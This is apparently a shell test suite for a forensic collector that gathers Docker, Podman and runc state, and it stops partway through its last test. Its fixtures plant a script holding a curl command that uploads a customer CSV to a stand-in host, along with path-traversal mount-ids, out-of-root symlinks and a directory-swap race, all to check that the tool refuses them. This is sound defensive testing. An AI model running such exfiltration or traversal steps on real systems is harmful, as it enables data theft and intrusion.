#!/bin/sh
# The containers source: Docker and Podman trees built under a profile's
# root: (with real whiteouts and opaque directories), containerd and runc
# state, and their hostile twins: broken, truncated and mistyped JSON, a
# config of 100 MB, a mount-id leading out of the root, symlink loops in a
# writable layer, missing layers, an empty host, an unprivileged run.
. "$(dirname "$0")/lib.sh"

make_key

ID=$(printf '%s' "$TEST_TMP" | sha256sum | cut -c1-64)
IMG=$(printf 'image %s' "$TEST_TMP" | sha256sum | cut -c1-64)
PODID=$(printf 'podman %s' "$TEST_TMP" | sha256sum | cut -c1-64)

# collect_root ROOT OUT: the containers source read under ROOT into OUT.
collect_root() {
	printf 'name: c\nentries:\n  - live: containers\n    root: %s\n' "$1" \
	    >"$TEST_TMP/containers.yaml" &&
	timeout 120 "$CUSTODY" collect --key "$TEST_TMP/key" --compress none \
	    --profile "$TEST_TMP/containers.yaml" -o "$2" >/dev/null 2>err
}

# doc X: the containers document of extracted archive X.
doc() {
	cat "$1/live/containers.json"
}

# docker_container ROOT: a running container with its configs and logs.
docker_container() {
	d=$1/var/lib/docker/containers/$ID
	mkdir -p "$d" &&
	cat >"$d/config.v2.json" <<-EOF &&
	{"ID": "$ID", "Name": "/web", "Created": "2026-11-30T10:00:00Z",
	 "Image": "sha256:$IMG", "Path": "/bin/sh", "Args": ["-c", "sleep 1d"],
	 "Driver": "overlay2", "LogPath": "$d/$ID-json.log", "RestartCount": 0,
	 "State": {"Running": true, "Paused": false, "Restarting": false,
	  "Dead": false, "OOMKilled": false, "Pid": 4242, "ExitCode": 0,
	  "StartedAt": "2026-11-30T10:00:01Z", "FinishedAt": "0001-01-01T00:00:00Z"},
	 "Config": {"Image": "alpine:3", "Cmd": ["sleep", "1d"], "Entrypoint": null,
	  "Env": ["PATH=/bin", "SECRET_TOKEN=hunter2"], "User": "",
	  "Hostname": "web1", "WorkingDir": "/", "Labels": {"app": "shop"}},
	 "MountPoints": {"/data": {"Source": "/srv/customers", "Destination": "/data",
	  "RW": true, "Type": "bind"}},
	 "NetworkSettings": {"Ports": {"80/tcp": [{"HostIp": "0.0.0.0", "HostPort": "8080"}]}}}
	EOF
	cat >"$d/hostconfig.json" <<-EOF &&
	{"Binds": ["/srv/customers:/data"], "Privileged": true,
	 "CapAdd": ["SYS_ADMIN"], "CapDrop": null, "NetworkMode": "host",
	 "RestartPolicy": {"Name": "always", "MaximumRetryCount": 0},
	 "PortBindings": {"80/tcp": [{"HostIp": "", "HostPort": "8080"}]},
	 "PidMode": "host", "LogConfig": {"Type": "json-file", "Config": {}}}
	EOF
	echo '{"log":"started\n","stream":"stdout","time":"2026-11-30T10:00:02Z"}' \
	    >"$d/$ID-json.log" &&
	echo '{"log":"older\n","stream":"stderr","time":"2026-11-29T10:00:02Z"}' \
	    >"$d/$ID-json.log.1"
}

# docker_images ROOT: one tagged image in the image database.
docker_images() {
	i=$1/var/lib/docker/image/overlay2
	mkdir -p "$i/imagedb/content/sha256" &&
	printf '{"Repositories": {"alpine": {"alpine:3": "sha256:%s"}}}\n' "$IMG" \
	    >"$i/repositories.json" &&
	cat >"$i/imagedb/content/sha256/$IMG" <<-EOF
	{"architecture": "amd64", "os": "linux", "created": "2026-10-01T00:00:00Z",
	 "config": {"Cmd": ["/bin/sh"], "Env": ["PATH=/bin"]},
	 "rootfs": {"type": "layers", "diff_ids": ["sha256:$ID"]}}
	EOF
}

# overlay_layers DIR MOUNT: a base layer, an init layer and the container's
# writable layer MOUNT in the overlay directory DIR, as Docker and
# containers/storage lay them out: DIR/l/SHORT links to ../ID/diff, and
# DIR/ID/link holds SHORT. The links are new, so reading them would change
# their atimes (relatime): their layers are found by the link files.
overlay_layers() {
	o=$1 m=$2
	mkdir -p "$o/l" "$o/base/diff/etc" "$o/base/diff/bin" "$o/base/diff/usr" \
	    "$o/base/diff/var/lib/apt" "$o/$m-init/diff/etc" "$o/$m/diff" &&
	echo root:x:0:0 >"$o/base/diff/etc/passwd" &&
	echo old >"$o/base/diff/usr/old" && echo keep >"$o/base/diff/var/lib/apt/x" &&
	echo hosts >"$o/$m-init/diff/etc/hosts" &&
	ln -s ../base/diff "$o/l/BASE" && ln -s "../$m-init/diff" "$o/l/INIT" &&
	echo BASE >"$o/base/link" && echo INIT >"$o/$m-init/link" &&
	echo "l/INIT:l/BASE" >"$o/$m/lower" &&
	u=$o/$m/diff &&
	mkdir -p "$u/etc" "$u/tmp" "$u/usr" "$u/var/lib" &&
	echo root:x:0:0:owned >"$u/etc/passwd" &&
	printf '#!/bin/sh\ncurl -T /data/customers.csv http://x/\n' >"$u/tmp/x.sh" &&
	cp /bin/true "$u/tmp/implant" &&
	echo notes >"$u/tmp/notes.txt" &&
	{ printf "#!/bin/sh\n" && head -c 2097152 /dev/zero; } >"$u/tmp/big.sh" &&
	mknod "$u/usr/old" c 0 0 &&
	python3 -c 'import os, sys; os.setxattr(sys.argv[1], "trusted.overlay.opaque", b"y")' \
	    "$u/var/lib"
}

# docker_mount ROOT MOUNT-ID: the container's layer record names MOUNT-ID.
docker_mount() {
	mkdir -p "$1/var/lib/docker/image/overlay2/layerdb/mounts/$ID" &&
	echo "$2" >"$1/var/lib/docker/image/overlay2/layerdb/mounts/$ID/mount-id"
}

# errors_of X: the problems the document of extracted archive X lists, to ./errs.
errors_of() {
	jq -r ".errors[]" "$1/live/containers.json" >errs
}

# docker_tree ROOT: a whole Docker data root.
docker_tree() {
	docker_container "$1" && docker_images "$1" &&
	docker_mount "$1" "mnt$ID" &&
	overlay_layers "$1/var/lib/docker/overlay2" "mnt$ID"
}

# change X PATH: the change record of PATH in the Docker container's layer.
change() {
	jq -c --arg p "$2" '.docker.containers[0].writable_layer.changes[] |
	    select(.path == $p)' "$1/live/containers.json"
}

if [ "$(id -u)" = 0 ]; then
	test_expect_success 'a Docker container: config, host config, state, image' '
		docker_tree "$TEST_TMP/d1" && collect_root "$TEST_TMP/d1" d1.tar &&
		custody verify --key key.pub d1.tar >/dev/null &&
		byhand_agrees 0 archive d1.tar key.pub &&
		extract d1.tar x1 &&
		doc x1 | jq -e --arg id "$ID" ".docker.found and
		    (.docker.containers | length) == 1 and
		    .docker.containers[0].id == \$id and
		    .docker.containers[0].name == \"/web\" and
		    .docker.containers[0].state == \"running\" and
		    .docker.containers[0].pid == 4242 and
		    .docker.containers[0].image == \"alpine:3\" and
		    .docker.containers[0].privileged == true and
		    .docker.containers[0].cap_add == [\"SYS_ADMIN\"] and
		    .docker.containers[0].network_mode == \"host\" and
		    .docker.containers[0].restart_policy.Name == \"always\" and
		    .docker.containers[0].binds == [\"/srv/customers:/data\"] and
		    .docker.containers[0].mount_points[\"/data\"].Source == \"/srv/customers\" and
		    .docker.containers[0].labels.app == \"shop\" and
		    (.docker.containers[0].env | index(\"SECRET_TOKEN=hunter2\")) != null and
		    .docker.containers[0].port_bindings[\"80/tcp\"][0].HostPort == \"8080\" and
		    .docker.tags[0].reference == \"alpine:3\" and
		    .docker.images[0].layers == [\"sha256:\" + \$id] and
		    .errors == []" >/dev/null
	'

	test_expect_success 'the writable layer: added, changed, deleted, opaque' '
		test "$(change x1 /etc/passwd | jq -r .change)" = C &&
		test "$(change x1 /tmp/x.sh | jq -r .change)" = A &&
		test "$(change x1 /tmp | jq -r .change)" = A &&
		test "$(change x1 /usr | jq -r .change)" = C &&
		test "$(change x1 /usr/old | jq -r .change)" = D &&
		test "$(change x1 /usr/old | jq -r .type)" = whiteout &&
		test "$(change x1 /var/lib | jq -r .opaque)" = true &&
		test "$(change x1 /var/lib | jq -r .change)" = C &&
		doc x1 | jq -e ".docker.containers[0].writable_layer |
		    .count == (.changes | length) and .truncated == false and
		    .kept == 2 and .not_kept == 1 and
		    (.lower | map(.missing) == [false, false])" >/dev/null &&
		test "$(change x1 /tmp/big.sh | jq -r .not_kept)" = "larger than the size cap"
	'

	test_expect_success 'small scripts and ELF files of the layer are kept, other files not' '
		m=live/containers/docker/$ID/diff/tmp &&
		cmp x1/$m/x.sh "$TEST_TMP/d1/var/lib/docker/overlay2/mnt$ID/diff/tmp/x.sh" &&
		cmp x1/$m/implant /bin/true &&
		! test -e x1/$m/notes.txt &&
		test "$(change x1 /tmp/x.sh | jq -r .kept.sha256)" = \
		    "$(sha256sum <x1/$m/x.sh | cut -c1-64)" &&
		jq -e -s --arg p "$m/x.sh" "map(select(.path == \$p)) | length == 1 and
		    .[0].sha256 != null and .[0].source ==
		    \"$TEST_TMP/d1/var/lib/docker/overlay2/mnt$ID/diff/tmp/x.sh\"" \
		    x1/custody/manifest.jsonl >/dev/null &&
		! change x1 /tmp/notes.txt | grep -q kept
	'

	test_expect_success 'the container logs, rotated ones too, are collected' '
		l=files$TEST_TMP/d1/var/lib/docker/containers/$ID &&
		grep -q started "x1/$l/$ID-json.log" &&
		grep -q older "x1/$l/$ID-json.log.1"
	'
else
	test_skip 'a Docker container' 'needs root for mknod and trusted.* xattrs'
fi

test_expect_success 'an empty host: a short document saying so' '
	mkdir -p empty && collect_root "$TEST_TMP/empty" e.tar &&
	extract e.tar ex &&
	doc ex | jq -e ".note | test(\"no container engine\")" >/dev/null &&
	doc ex | jq -e ".docker.found == false and .podman.found == false and
	    .errors == []" >/dev/null
'

# docker_broken ROOT CONTENT: a container whose config.v2.json is CONTENT.
docker_broken() {
	mkdir -p "$1/var/lib/docker/containers/$ID" &&
	printf '%s' "$2" >"$1/var/lib/docker/containers/$ID/config.v2.json"
}

test_expect_success 'broken JSON is recorded, the container still listed' '
	docker_broken "$TEST_TMP/b1" "{\"ID\": \"$ID\", not json" &&
	collect_root "$TEST_TMP/b1" b1.tar && extract b1.tar bx &&
	doc bx | jq -e ".docker.containers | length == 1" >/dev/null &&
	errors_of bx &&
	test_grep "config.v2.json: not valid JSON" errs &&
	test_grep "hostconfig.json: missing" errs &&
	custody verify --key key.pub b1.tar >/dev/null
'

test_expect_success 'truncated JSON is recorded' '
	docker_container "$TEST_TMP/b2" &&
	c=$TEST_TMP/b2/var/lib/docker/containers/$ID/config.v2.json &&
	head -c 200 "$c" >c.part && mv c.part "$c" &&
	collect_root "$TEST_TMP/b2" b2.tar && extract b2.tar b2x &&
	errors_of b2x &&
	test_grep "config.v2.json: not valid JSON" errs &&
	doc b2x | jq -e ".docker.containers[0].privileged == true" >/dev/null
'

test_expect_success 'JSON of the wrong types: fields null, each named' '
	docker_broken "$TEST_TMP/b3" "{\"ID\": 7, \"State\": {\"Pid\": \"4242\",
	    \"Running\": \"yes\"}, \"Config\": {\"Env\": \"A=1\", \"Labels\": []}}" &&
	mkdir -p "$TEST_TMP/b3/var/lib/docker/image/overlay2" &&
	echo "[1, 2]" >"$TEST_TMP/b3/var/lib/docker/image/overlay2/repositories.json" &&
	collect_root "$TEST_TMP/b3" b3.tar && extract b3.tar b3x &&
	errors_of b3x &&
	test_grep "ID is not a string" errs &&
	test_grep "State.Pid is not an integer" errs &&
	test_grep "State.Running is not a boolean" errs &&
	test_grep "Config.Env is not an array" errs &&
	test_grep "Config.Labels is not an object" errs &&
	test_grep "repositories.json: is not an object" errs &&
	doc b3x | jq -e ".docker.containers[0] | .pid == null and .env == null and
	    .state == \"created\"" >/dev/null
'

test_expect_success 'a config of 100 MB is refused unread, in bounded time' '
	mkdir -p "$TEST_TMP/b4/var/lib/docker/containers/$ID" &&
	truncate -s 100M "$TEST_TMP/b4/var/lib/docker/containers/$ID/config.v2.json" &&
	start=$(date +%s) && collect_root "$TEST_TMP/b4" b4.tar &&
	test $(($(date +%s) - start)) -lt 30 && extract b4.tar b4x &&
	errors_of b4x &&
	test_grep "config.v2.json: larger than 16777216 bytes, not parsed" errs &&
	test $(stat -c %s b4.tar) -lt 1000000
'

test_expect_success 'a mount-id leading out of the root is refused' '
	docker_container "$TEST_TMP/b5" &&
	docker_mount "$TEST_TMP/b5" "../../../../../../etc" &&
	collect_root "$TEST_TMP/b5" b5.tar && extract b5.tar b5x &&
	errors_of b5x &&
	test_grep "layer name refused" errs &&
	doc b5x | jq -e ".docker.containers[0].writable_layer.changes == null" >/dev/null &&
	! tar -tf b5.tar | grep -q "diff/passwd"
'

test_expect_success 'symlink loops in a writable layer are listed, never followed' '
	docker_container "$TEST_TMP/b6" &&
	docker_mount "$TEST_TMP/b6" "m6" &&
	u=$TEST_TMP/b6/var/lib/docker/overlay2/m6/diff && mkdir -p "$u/d" &&
	ln -s self "$u/self" && ln -s b "$u/a" && ln -s a "$u/b" &&
	ln -s .. "$u/d/up" && ln -s / "$u/d/host" &&
	: "a link read since it was made (a clock tick later) is read again" &&
	sleep 1 && readlink "$u/d/up" >/dev/null &&
	collect_root "$TEST_TMP/b6" b6.tar && extract b6.tar b6x &&
	doc b6x | jq -e ".docker.containers[0].writable_layer |
	    .count == 6 and ([.changes[] | select(.type == \"symlink\")] | length) == 5 and
	    (.changes[] | select(.path == \"/d/up\") | .target) == \"..\"" >/dev/null
'

test_expect_success 'links where directories belong are refused; odd names kept exactly' '
	docker_container "$TEST_TMP/b9" &&
	mkdir -p "$TEST_TMP/outside" && echo "{\"Name\": \"/planted\"}" \
	    >"$TEST_TMP/outside/config.v2.json" &&
	ln -s "$TEST_TMP/outside" "$TEST_TMP/b9/var/lib/docker/containers/$IMG" &&
	docker_mount "$TEST_TMP/b9" m9 &&
	u=$TEST_TMP/b9/var/lib/docker/overlay2/m9/diff && mkdir -p "$u" &&
	printf "x" >"$u/$(printf "bad\377name")" &&
	collect_root "$TEST_TMP/b9" b9.tar && extract b9.tar b9x &&
	errors_of b9x &&
	test_grep "containers/$IMG: symlink, not followed" errs &&
	! grep -q planted b9x/live/containers.json &&
	doc b9x | jq -e "[.docker.containers[].writable_layer.changes[]?] |
	    length == 1 and .[0].path == null and
	    (.[0].path_base64 | @base64d | startswith(\"/bad\"))" >/dev/null
'

# outside DIR: files outside every root: JSON, a log, a layer, all marked.
outside() {
	mkdir -p "$1/diff/etc" "$1/etc" &&
	echo "{\"ID\": \"MARKER-outside\", \"Name\": \"/MARKER-outside\"}" \
	    >"$1/config.json" &&
	echo "MARKER-outside:x:0:0::/:/bin/sh" >"$1/shadow" &&
	echo "#!/bin/sh MARKER-outside" >"$1/diff/etc/implant.sh" &&
	echo "#!/bin/sh MARKER-outside" >"$1/etc/implant.sh" &&
	echo MARKER-outside >"$1/diff/link"
}

if [ "$(id -u)" = 0 ]; then
	test_expect_success 'links out of the root are recorded, never followed: nothing of outside read' '
		out=$TEST_TMP/out1 && outside "$out" && r=$TEST_TMP/s1 &&
		dr=$r/var/lib/docker && docker_tree "$r" &&
		c=$dr/containers/$ID && rm "$c/config.v2.json" "$c/$ID-json.log.1" &&
		ln -s "$out/config.json" "$c/config.v2.json" &&
		ln -s "$out/shadow" "$c/$ID-json.log.1" &&
		o=$dr/overlay2 && u=$o/mnt$ID/diff &&
		ln -s /etc "$u/hostetc" && ln -s "$out/etc" "$u/outetc" &&
		ln -s "$out" "$o/evil" && ln -s ../evil/diff "$o/l/EVIL" &&
		sleep 1 && readlink "$o/l/EVIL" >/dev/null &&
		echo "l/INIT:l/EVIL:l/BASE" >"$o/mnt$ID/lower" &&
		ID2=$(printf "two %s" "$ID" | sha256sum | cut -c1-64) &&
		mkdir -p "$dr/containers/$ID2" "$dr/image/overlay2/layerdb/mounts/$ID2" &&
		echo "{\"ID\": \"$ID2\"}" >"$dr/containers/$ID2/config.v2.json" &&
		ln -s /etc/passwd "$dr/containers/$ID2/hostconfig.json" &&
		echo slash >"$dr/image/overlay2/layerdb/mounts/$ID2/mount-id" &&
		ln -s / "$o/slash" &&
		ID3=$(printf "three %s" "$ID" | sha256sum | cut -c1-64) &&
		mkdir -p "$dr/containers/$ID3" "$dr/image/overlay2/layerdb/mounts/$ID3" \
		    "$o/up3" &&
		echo "{\"ID\": \"$ID3\"}" >"$dr/containers/$ID3/config.v2.json" &&
		echo up3 >"$dr/image/overlay2/layerdb/mounts/$ID3/mount-id" &&
		ln -s "$out/diff" "$o/up3/diff" &&
		mv "$dr/image/overlay2/imagedb" "$out/imagedb" &&
		echo "{\"architecture\": \"MARKER-outside\"}" \
		    >"$out/imagedb/content/sha256/$IMG" &&
		ln -s "$out/imagedb" "$dr/image/overlay2/imagedb" &&
		ps=$r/var/lib/containers/storage && mkdir -p "$ps/overlay-containers" \
		    "$out/overlay-images" && echo "[]" >"$ps/overlay-containers/containers.json" &&
		echo "[{\"id\": \"MARKER-outside\"}]" >"$out/overlay-images/images.json" &&
		ln -s "$out/overlay-images" "$ps/overlay-images" &&
		mkdir -p "$r/etc" "$r/run/runc/$PODID" &&
		ln -s "$out/shadow" "$r/etc/passwd" &&
		ln -s "$out/config.json" "$r/run/runc/$PODID/state.json" &&
		mkdir -p "$r/var/lib/containerd" &&
		ln -s "$out" "$r/var/lib/containerd/io.containerd.metadata.v1.bolt" &&
		touch "$out/meta.db" &&
		collect_root "$r" s1.tar &&
		custody verify --key key.pub s1.tar >/dev/null &&
		byhand_agrees 0 archive s1.tar key.pub &&
		extract s1.tar s1x &&
		! grep -r -l MARKER s1x && ! grep -q MARKER s1.tar &&
		errors_of s1x &&
		test_grep "containers/$ID/config.v2.json: symlink, not followed" errs &&
		test_grep "containers/$ID/$ID-json.log.1: symlink, not followed" errs &&
		test_grep "containers/$ID2/hostconfig.json: symlink, not followed" errs &&
		test_grep "slash: layer missing from $o (symlink, not followed)" errs &&
		test_grep "up3: no upper directory (diff): symlink, not followed" errs &&
		test_grep "evil: lower layer missing" errs &&
		test_grep "imagedb/content/sha256: symlink, not followed" errs &&
		test_grep "overlay-images/images.json: symlink, not followed" errs &&
		test_grep "$r/etc/passwd: symlink, not followed" errs &&
		test_grep "run/runc/$PODID/state.json: symlink, not followed" errs &&
		test_grep "meta.db: symlink, not followed" errs &&
		doc s1x | jq -e --arg id "$ID" "
		    (.docker.containers[] | select(.directory_id == \$id) |
		      .name == null and .privileged == true and
		      (.writable_layer.lower | map(.missing) == [false, true, false]) and
		      ([.writable_layer.changes[] | select(.path == \"/hostetc\" or
		        .path == \"/outetc\") | .type] == [\"symlink\", \"symlink\"]) and
		      ([.writable_layer.changes[] | select(.path == \"/etc/passwd\") |
		        .change] == [\"C\"])) and
		    .docker.images == [] and .containerd.metadata == null" >/dev/null &&
		! test -e "s1x/files$c/$ID-json.log.1" &&
		grep -q started "s1x/files$c/$ID-json.log"
	'

	if command -v setpriv >/dev/null; then
		test_expect_success 'the same links, collected by nobody: recorded, never followed' '
			mkdir -p nobody2 && chown 65534:65534 nobody2 && cp key nobody2/key &&
			chown 65534 nobody2/key &&
			printf "name: c\nentries:\n  - live: containers\n    root: %s\n" \
			    "$TEST_TMP/s1" >nobody2/p.yaml &&
			(cd nobody2 && timeout 120 setpriv --reuid=65534 --regid=65534 \
			    --clear-groups "$CUSTODY" collect --key key --compress none \
			    --profile ./p.yaml -o s2.tar >/dev/null 2>../err) &&
			custody verify --key key.pub nobody2/s2.tar >/dev/null &&
			extract nobody2/s2.tar s2x && ! grep -r -l MARKER s2x &&
			errors_of s2x &&
			test_grep "containers/$ID/config.v2.json: symlink, not followed" errs &&
			test_grep "imagedb/content/sha256: symlink, not followed" errs &&
			test_grep "meta.db: symlink, not followed" errs
		'
	else
		test_skip 'the same links, collected by nobody' 'needs setpriv'
	fi

	test_expect_success 'a root reached through a link is the examiner'"'"'s choice: read' '
		ln -s "$TEST_TMP/d1" "$TEST_TMP/d1-link" &&
		collect_root "$TEST_TMP/d1-link" l1.tar && extract l1.tar l1x &&
		doc l1x | jq -e ".docker.containers[0].name == \"/web\" and
		    .docker.containers[0].writable_layer.count > 0 and .errors == []" >/dev/null &&
		grep -q started "l1x/files$TEST_TMP/d1-link/var/lib/docker/containers/$ID/$ID-json.log"
	'

	test_expect_success 'a profile path through a link still collects its file' '
		mkdir -p "$TEST_TMP/realdir" && echo kept >"$TEST_TMP/realdir/f" &&
		ln -s realdir "$TEST_TMP/linkdir" &&
		printf "name: p\nentries:\n  - path: %s\n" "$TEST_TMP/linkdir/f" >pl.yaml &&
		"$CUSTODY" collect --key key --compress none --profile pl.yaml \
		    -o pl.tar >/dev/null 2>err && extract pl.tar plx &&
		test "$(cat "plx/files$TEST_TMP/linkdir/f")" = kept
	'
else
	test_skip 'links out of the root are recorded, never followed' 'needs root for mknod'
	test_skip 'the same links, collected by nobody' 'needs root'
	test_skip 'a root reached through a link is read' 'needs root for mknod'
	test_skip 'a profile path through a link still collects its file' 'needs root'
fi

test_expect_success 'a layer of 12000 files and 80 levels: listed up to the caps, recorded' '
	docker_container "$TEST_TMP/c2" && docker_mount "$TEST_TMP/c2" m2 &&
	u=$TEST_TMP/c2/var/lib/docker/overlay2/m2/diff && mkdir -p "$u/many" &&
	(cd "$u/many" && seq 1 12000 | xargs touch) &&
	python3 -c "import os, sys; os.makedirs(sys.argv[1] + \"/d\" * 80)" "$u/deep" &&
	collect_root "$TEST_TMP/c2" c2.tar && extract c2.tar c2x &&
	doc c2x | jq -e ".docker.containers[0].writable_layer |
	    .count == 10000 and .truncated == true and (.changes | length) == 10000" >/dev/null &&
	rm -rf "$u/many" && collect_root "$TEST_TMP/c2" c3.tar && extract c3.tar c3x &&
	doc c3x | jq -e ".docker.containers[0].writable_layer |
	    .depth_truncated == true and .truncated == false and
	    ([.changes[].path | length] | max) < 200" >/dev/null
'

test_expect_success 'a missing layer and a missing lower layer are recorded' '
	docker_container "$TEST_TMP/b7" &&
	docker_mount "$TEST_TMP/b7" "gone" &&
	collect_root "$TEST_TMP/b7" b7.tar && extract b7.tar b7x &&
	errors_of b7x &&
	test_grep "gone: layer missing" errs &&
	doc b7x | jq -e ".docker.containers[0].writable_layer.missing" >/dev/null &&
	o=$TEST_TMP/b8/var/lib/docker/overlay2 &&
	docker_container "$TEST_TMP/b8" &&
	docker_mount "$TEST_TMP/b8" m8 && mkdir -p "$o/m8/diff" "$o/l" &&
	echo x >"$o/m8/diff/f" && ln -s ../nowhere/diff "$o/l/NOWHERE" &&
	sleep 1 && readlink "$o/l/NOWHERE" >/dev/null &&
	echo "l/NOWHERE:l/ABSENT:../../x" >"$o/m8/lower" &&
	collect_root "$TEST_TMP/b8" b8.tar && extract b8.tar b8x &&
	errors_of b8x &&
	test_grep "nowhere: lower layer missing" errs &&
	test_grep "l/ABSENT: lower layer link missing or refused" errs &&
	test_grep "lower layer link is not l/NAME" errs &&
	doc b8x | jq -e ".docker.containers[0].writable_layer |
	    (.lower | map(.missing) == [true, true, true]) and
	    .changes[0].change == \"A\"" >/dev/null
'

test_expect_success 'daemon.json moves the data root; a relative one is refused' '
	mkdir -p "$TEST_TMP/r1/etc/docker" && docker_container "$TEST_TMP/r1/srv/x" &&
	mv "$TEST_TMP/r1/srv/x/var/lib/docker" "$TEST_TMP/r1/srv/docker" &&
	echo "{\"data-root\": \"/srv/docker\"}" >"$TEST_TMP/r1/etc/docker/daemon.json" &&
	collect_root "$TEST_TMP/r1" r1.tar && extract r1.tar r1x &&
	doc r1x | jq -e ".docker.data_root == \"/srv/docker\" and
	    .docker.containers[0].name == \"/web\"" >/dev/null &&
	echo "{\"data-root\": \"../../tmp\"}" >"$TEST_TMP/r1/etc/docker/daemon.json" &&
	collect_root "$TEST_TMP/r1" r2.tar && extract r2.tar r2x &&
	errors_of r2x && test_grep "refused (not a plain absolute path)" errs &&
	doc r2x | jq -e ".docker.data_root == \"/var/lib/docker\"" >/dev/null &&
	echo "{\"data-root\": 5}" >"$TEST_TMP/r1/etc/docker/daemon.json" &&
	collect_root "$TEST_TMP/r1" r3.tar && extract r3.tar r3x &&
	errors_of r3x && test_grep "data-root is not a string" errs
'

# podman_tree ROOT STORE: a containers/storage store with one container.
podman_tree() {
	s=$1$2
	mkdir -p "$s/overlay-containers/$PODID/userdata" "$s/overlay-images" \
	    "$s/overlay-layers" &&
	cat >"$s/overlay-containers/containers.json" <<-EOF &&
	[{"id": "$PODID", "names": ["db"], "image": "$IMG", "layer": "lay$PODID",
	  "metadata": "{\"image-name\":\"postgres:16\"}", "created": "2026-11-30T09:00:00Z"}]
	EOF
	cat >"$s/overlay-containers/$PODID/userdata/config.json" <<-EOF &&
	{"ociVersion": "1.0.2", "hostname": "db",
	 "process": {"args": ["postgres"], "env": ["POSTGRES_PASSWORD=x"], "cwd": "/",
	  "user": {"uid": 999, "gid": 999},
	  "capabilities": {"bounding": ["CAP_CHOWN"], "effective": ["CAP_CHOWN"]}},
	 "root": {"path": "/var/lib/containers/storage/overlay/lay$PODID/merged"},
	 "mounts": [{"destination": "/var/lib/postgresql/data", "type": "bind",
	  "source": "/srv/pg", "options": ["rbind"]}],
	 "linux": {"namespaces": [{"type": "pid"}, {"type": "network"}]}}
	EOF
	echo "2026-11-30T09:00:01Z stdout F ready" \
	    >"$s/overlay-containers/$PODID/userdata/ctr.log" &&
	echo "[{\"id\": \"$IMG\", \"names\": [\"docker.io/library/postgres:16\"],
	    \"layer\": \"base\", \"created\": \"2026-10-01T00:00:00Z\"}]" \
	    >"$s/overlay-images/images.json" &&
	echo "[{\"id\": \"base\", \"created\": \"2026-10-01T00:00:00Z\",
	    \"diff-size\": 1000}, {\"id\": \"lay$PODID\", \"parent\": \"base\"}]" \
	    >"$s/overlay-layers/layers.json" &&
	overlay_layers "$s/overlay" "lay$PODID"
}

if [ "$(id -u)" = 0 ]; then
	test_expect_success 'Podman, rootful and rootless: containers, spec, images, layers, diff' '
		mkdir -p "$TEST_TMP/p1/etc" &&
		printf "root:x:0:0:root:/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/sh\nbad:x:1:1::../..:/bin/sh\n" \
		    >"$TEST_TMP/p1/etc/passwd" &&
		printf "bin:x:2:2::/bin:/bin/sh\nsys:x:3:3::/bin:/bin/sh\ngone:x:4:4::/nonexistent:/bin/sh\n" \
		    >>"$TEST_TMP/p1/etc/passwd" &&
		mkdir -p "$TEST_TMP/p1/usr/bin/.local/share/containers/storage" &&
		ln -s usr/bin "$TEST_TMP/p1/bin" &&
		podman_tree "$TEST_TMP/p1" /var/lib/containers/storage &&
		podman_tree "$TEST_TMP/p1" /home/alice/.local/share/containers/storage &&
		collect_root "$TEST_TMP/p1" p1.tar && extract p1.tar p1x &&
		custody verify --key key.pub p1.tar >/dev/null &&
		doc p1x | jq -e --arg id "$PODID" ".podman.found and
		    (.podman.stores | map(.owner) == [\"root\", \"alice\"]) and
		    (.podman.stores[1].path == \"/home/alice/.local/share/containers/storage\") and
		    .podman.homes_behind_links == [\"/bin\"] and
		    .podman.stores[0].containers[0].id == \$id and
		    .podman.stores[0].containers[0].names == [\"db\"] and
		    .podman.stores[0].containers[0].spec.args == [\"postgres\"] and
		    .podman.stores[0].containers[0].spec.mounts[0].source == \"/srv/pg\" and
		    .podman.stores[0].containers[0].spec.capabilities.bounding == [\"CAP_CHOWN\"] and
		    .podman.stores[0].images[0].names == [\"docker.io/library/postgres:16\"] and
		    (.podman.stores[0].layers | length) == 2 and
		    ([.podman.stores[1].containers[0].writable_layer.changes[] |
		      select(.path == \"/usr/old\") | .change] == [\"D\"]) and
		    .errors == []" >/dev/null &&
		test -e "p1x/live/containers/podman/alice/$PODID/diff/tmp/x.sh" &&
		grep -q ready "p1x/files$TEST_TMP/p1/var/lib/containers/storage/overlay-containers/$PODID/userdata/ctr.log"
	'
else
	test_skip 'Podman, rootful and rootless' 'needs root for mknod and trusted.* xattrs'
fi

test_expect_success 'Podman stores with broken, mistyped and huge files' '
	s=$TEST_TMP/p2/var/lib/containers/storage &&
	mkdir -p "$s/overlay-containers" "$s/overlay-images" "$s/overlay-layers" &&
	echo "[{\"id\": \"../../etc\", \"layer\": \"x\"}, 5, {\"id\": [1]}]" \
	    >"$s/overlay-containers/containers.json" &&
	echo "{\"not\": \"an array\"}" >"$s/overlay-images/images.json" &&
	truncate -s 100M "$s/overlay-layers/layers.json" &&
	collect_root "$TEST_TMP/p2" p2.tar && extract p2.tar p2x &&
	errors_of p2x &&
	test_grep "containers.json: entry 1 is not an object" errs &&
	test_grep "container 0 has no usable id" errs &&
	test_grep "id is not a string" errs &&
	test_grep "images.json: is not an array" errs &&
	test_grep "layers.json: larger than 16777216 bytes" errs
'

# swap_when_open PID DIR OUT: once process PID has a log of DIR open that
# is not the last it lists, stop PID, replace DIR by a link to OUT (DIR
# moved to DIR.x) while that log is still open, so that the next logs are
# looked for through the link, and let PID go on; 1 when PID never has one
# open.
swap_when_open() {
	python3 -c '
import os, signal, sys, time
pid, d, out = int(sys.argv[1]), sys.argv[2], sys.argv[3]
last = d + "/" + [n for n in os.listdir(d) if "-json.log" in n][-1]

def early_log_open():
    for fd in os.listdir("/proc/%d/fd" % pid):
        try:
            target = os.readlink("/proc/%d/fd/%s" % (pid, fd))
        except OSError:
            continue
        if target.startswith(d + "/") and "-json.log" in target and target != last:
            return True
    return False

def stopped():
    with open("/proc/%d/stat" % pid) as f:
        return f.read().rsplit(")", 1)[1].split()[0] == "T"

end = time.time() + 60
while time.time() < end:
    try:
        if early_log_open():
            os.kill(pid, signal.SIGSTOP)
            try:
                while not stopped() and time.time() < end:
                    time.sleep(0.001)
                if early_log_open():
                    os.rename(d, d + ".x")
                    os.symlink(out, d)
                    sys.exit(0)
            finally:
                os.kill(pid, signal.SIGCONT)
    except OSError:
        sys.exit(1)
    time.sleep(0.001)
sys.exit(1)
' "$@"
}

if [ "$(id -u)" = 0 ]; then
	test_expect_success 'a log directory swapped for a link while its logs are collected: outside never read' '
		r=$TEST_TMP/w1 && docker_container "$r" && mkdir -p "$TEST_TMP/out2" &&
		c=$r/var/lib/docker/containers/$ID &&
		for n in "" .1 .2 .3; do
			head -c 30000000 /dev/zero >"$c/$ID-json.log$n" &&
			echo MARKER-outside >"$TEST_TMP/out2/$ID-json.log$n" || exit 1
		done &&
